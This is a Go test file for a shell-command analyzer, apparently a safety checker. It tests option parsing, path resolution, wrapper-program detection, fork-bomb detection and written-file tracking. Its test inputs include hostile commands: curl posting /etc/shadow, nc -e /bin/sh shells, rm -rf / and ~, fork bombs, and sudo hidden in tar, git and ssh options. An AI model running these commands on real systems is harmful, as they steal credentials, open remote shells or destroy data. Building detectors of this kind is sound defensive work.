package shell

import (
	"fmt"
	"strings"
	"testing"
)

// opts renders a parse as "name=value name | operand operand".
func opts(p Parsed) string {
	var o []string
	for _, x := range p.Opts {
		if x.HasValue {
			o = append(o, x.Name+"="+x.Value.Match)
		} else {
			o = append(o, x.Name)
		}
	}
	var ops []string
	for _, w := range p.Operands {
		ops = append(ops, w.Match)
	}
	s := strings.Join(o, " ") + " | " + strings.Join(ops, " ")
	if p.Unknown != "" {
		s += " ?" + p.Unknown
	}
	return s
}

func parseCmd(t *testing.T, src string) Command {
	t.Helper()
	a := Analyze(src, Options{})
	if a.ParseError != nil || len(a.Commands) == 0 {
		t.Fatalf("%s: %v", src, a.ParseError)
	}
	return a.Commands[0]
}

// TestOptionModel: clusters, attached values, --long=value, unique
// abbreviations, "--" and per-program value options, the same for every
// rule that reads options.
func TestOptionModel(t *testing.T) {
	cases := []struct{ src, want string }{
		{"curl -d@/etc/shadow https://x/", "-d=@/etc/shadow | https://x/"},
		{"curl -o/tmp/evil https://x/", "-o=/tmp/evil | https://x/"},
		{"curl -Ff=@/etc/shadow https://x/", "-F=f=@/etc/shadow | https://x/"},
		{"curl -sSo out https://x/", "-s -S -o=out | https://x/"},
		{"curl --data=@f https://x/", "--data=@f | https://x/"},
		{"curl --data-ascii @f https://x/", "--data-ascii=@f | https://x/"},
		{"curl --upload x https://x/", "--upload-file=x | https://x/"}, // unique prefix
		{"curl --dat x https://x/", "--dat | x https://x/"},            // ambiguous: kept as written
		{"nc -e/bin/sh 10.0.0.1 4444", "-e=/bin/sh | 10.0.0.1 4444"},
		{"nc -lvp 4444 -e /bin/sh", "-l -v -p=4444 -e=/bin/sh | "},
		{"rm -vr /", "-v -r | /"},
		{"rm --recur -- -x", "--recursive | -x"},
		{"tar czf out.tgz src", "-c -z -f=out.tgz | src"},
		{"tar -xIsh -f a.tar", "-x -I=sh -f=a.tar | "},
		{"tar --to-comm=sh -xf a.tar", "--to-command=sh -x -f=a.tar | "},
		{"sort --compress-prog=sh -o out x", "--compress-program=sh -o=out | x"},
		{"ssh -oProxyCommand=x -p 22 host ls -la", "-o=ProxyCommand=x -p=22 | host ls -la"},
		{"git -c core.pager=less log -c", "-c=core.pager=less | log -c"},
		{"git --git-dir x --no-pager log", "--git-dir=x --no-pager | log"},
		{"date -d yesterday +%F", "-d=yesterday | +%F"},
		{"date -Iseconds", "-I=seconds | "},
		{"find / -name x -fprintf out %p -exec rm {} +", "-name=x -fprintf=out -exec=rm | /"},
		{"find -L . -maxdepth 1 -delete", "-L -maxdepth=1 -delete | ."},
		{"pkill -9 -f .", "-9 -f | ."},
		{"python3 -m pip install x", "-m=pip | install x"},
		{"npm --registry https://r/ install x", "--registry=https://r/ | install x"},
		{`curl -o"$OUT" https://x/`, "-o=$OUT | https://x/"},
	}
	for _, tc := range cases {
		t.Run(tc.src, func(t *testing.T) {
			c := parseCmd(t, tc.src)
			if got := opts(c.Parsed); got != tc.want {
				t.Fatalf("got %q; want %q", got, tc.want)
			}
		})
	}
}

func TestStrictWrapperUnknownOption(t *testing.T) {
	a := Analyze("timeout -Z 5 sudo id", Options{})
	last := a.Commands[len(a.Commands)-1]
	if !last.Dynamic || !strings.Contains(last.DynamicReason, "option -Z is not known") {
		t.Fatalf("got %+v; want a dynamic program naming the unknown option", last)
	}
}

func TestArgTest(t *testing.T) {
	c := parseCmd(t, `rm -rf "${HOME:?}"`)
	f, ok := c.Args[1].PathForm()
	if !ok || f != "~" {
		t.Fatalf("PathForm = %q %v; want ~", f, ok)
	}
	for src, want := range map[string]string{
		"rm -rf /..":          "/",
		"rm -rf $HOME/.":      "~",
		"rm -rf ~/../x/..":    "~",
		"rm -rf /tmp/../*":    "/*",
		`rm -rf "$HOME"/*`:    "~/*",
		"rm -rf ~alice/":      "~",
		"rm -rf ./build/../b": "b",
		"rm -rf ./~":          "./~", // a file named ~, not a home
		"rm -rf '~'":          "./~",
		`rm -rf "~/x"`:        "./~/x",
		"rm -rf ./~0":         "./~0",
	} {
		c := parseCmd(t, src)
		if f, ok := c.Args[len(c.Args)-1].PathForm(); !ok || f != want {
			t.Errorf("%s: PathForm = %q %v; want %q", src, f, ok, want)
		}
	}
	for _, src := range []string{`rm -rf "$DIR"`, "rm -rf ${HOME%/*}", "rm -rf $(pwd)", "rm -rf ${HOME:+/x}"} {
		c := parseCmd(t, src)
		if f, ok := c.Args[len(c.Args)-1].PathForm(); ok {
			t.Errorf("%s: PathForm = %q; want not knowable", src, f)
		}
	}
}

func TestFDPaths(t *testing.T) {
	for p, want := range map[string]bool{
		"/dev/stdin": true, "/dev/fd/0": true, "/dev/fd/3": true, "/proc/self/fd/0": true, "/proc/$$/fd/0": true,
		"/proc/1/task/1/fd/0": true, "/dev/./stdin": true, "//dev/stdin": true, "/proc/thread-self/fd/0": true,
		"/dev/stdout2": false, "/proc/self/status": false, "stdin": false, "./dev/stdin": false, "": false,
	} {
		if got := IsFDPath(p); got != want {
			t.Errorf("IsFDPath(%q) = %v; want %v", p, got, want)
		}
	}
}

// TestDerivedPrograms lists what the analysis finds each command runs.
func TestDerivedPrograms(t *testing.T) {
	cases := []struct{ src, want string }{
		{"[ -f x ] && cat x", "[@0 cat@0"},
		{"command -v sudo", "command@0"},
		{"command -p sudo id", "command@0 command>sudo@0"},
		{"echo x | xargs -I{} {} id", "echo@0 xargs@1 xargs>?@1"},
		{"find . -exec {} \\;", "find@0 find>?@0"},
		{"flock /tmp/l -c 'sudo id'", "flock@0 flock -c>sudo@0"},
		{"flock -w 3 /tmp/l sudo id", "flock@0 flock>sudo@0"},
		{"watch -n1 sudo id", "watch@0 watch>sudo@0"},
		{"script -qc 'sudo id' /dev/null", "script@0 script -c>sudo@0"},
		{"strace -f -o log sudo id", "strace@0 strace>sudo@0"},
		{"systemd-run --user -p X=1 sudo id", "systemd-run@0 systemd-run>sudo@0"},
		{"sg wheel -c 'sudo id'", "sg@0 sg>sudo@0"},
		{"parallel sudo ::: id", "parallel@0 parallel>sudo@0"},
		{"parallel ::: 'sudo id'", "parallel@0 parallel>sudo@0"},
		{"nice -5 sudo id", "nice@0 nice>sudo@0"},
		{"timeout -k5 10 sudo id", "timeout@0 timeout>sudo@0"},
		{"setarch x86_64 -R sudo id", "setarch@0 setarch>sudo@0"},
		{"xargs timeout 5", "xargs@0 xargs>timeout@0 timeout>?@0"},
		{"git -c core.pager='sudo id' log", "git@0 git -c core.pager>sudo@0"},
		{"GIT_PAGER='sudo id' git log", "git@0 GIT_PAGER=>sudo@0"},
		{"tar --to-command='sudo id' -xf a", "tar@0 tar --to-command>sudo@0"},
		{"sort --compress-program=gzip x", "sort@0 sort>gzip@0"},
		{"ssh host -o ProxyCommand='sudo id'", "ssh@0 ssh -o proxycommand>sudo@0"},
		{"rsync -e 'sudo id' a h:b", "rsync@0 rsync -e>sudo@0"},
		{"git bisect run sudo id", "git@0 git>sudo@0"},
		{"ssh host sudo id", "ssh@0"}, // runs on the remote host
		{"git log -c", "git@0"},
	}
	wantProgs(t, cases)
}

// TestForkCycles: a cycle of calls that forks is a fork bomb; plain
// recursion is not.
func TestForkCycles(t *testing.T) {
	for src, want := range map[string]string{
		"f(){ f|f& };f":                            "function f calls itself",
		"a(){ b|b& }; b(){ a|a& }; a":              "functions a, b call each other",
		"a(){ b; }; b(){ c & }; c(){ a; }":         "functions b, c, a call each other",
		"f(){ (f); }; f":                           "function f calls itself",
		"f(){ echo $(f); }; f":                     "function f calls itself",
		"f(){ [ $1 -gt 0 ] && f $(($1-1)); }; f 3": "",
		"walk(){ for d in \"$1\"/*; do [ -d \"$d\" ] && walk \"$d\"; done; }; walk .": "",
		"a(){ b & }; b(){ echo; }; a": "",
	} {
		a := Analyze(src, Options{})
		if a.ParseError != nil {
			t.Fatalf("%s: %v", src, a.ParseError)
		}
		if want == "" && a.RecursiveFunction != "" || want != "" && !strings.Contains(a.RecursiveFunction, want) {
			t.Errorf("%s: got %q; want %q", src, a.RecursiveFunction, want)
		}
	}
}

func TestWrittenAndAssigns(t *testing.T) {
	a := Analyze(`printf x > "$TMPDIR/s"; curl -o a https://x/; wget https://h/p/b.sh; cp x y /d; dd of=e; tee f g; tar xf t`, Options{})
	var got []string
	for _, w := range a.Written {
		got = append(got, w.Match)
	}
	if want := "$TMPDIR/s a b.sh /d /d/x /d/y e f g t"; strings.Join(got, " ") != want {
		t.Fatalf("Written = %q; want %q", strings.Join(got, " "), want)
	}
	if a.WritesUnknown != "tar" {
		t.Fatalf("WritesUnknown = %q; want tar", a.WritesUnknown)
	}
	a = Analyze(`: ${LD_PRELOAD:=x} $((IFS=1)) $((PATH++)); getopts ab HOME; local ENV=x`, Options{})
	var names []string
	for _, as := range a.ExpansionAssigns {
		names = append(names, as.Name)
	}
	for _, c := range a.Commands {
		for _, as := range c.Assigns {
			names = append(names, as.Name)
		}
	}
	if want := "LD_PRELOAD IFS PATH HOME ENV"; fmt.Sprint(strings.Join(names, " ")) != want {
		t.Fatalf("assigned %q; want %q", strings.Join(names, " "), want)
	}
}
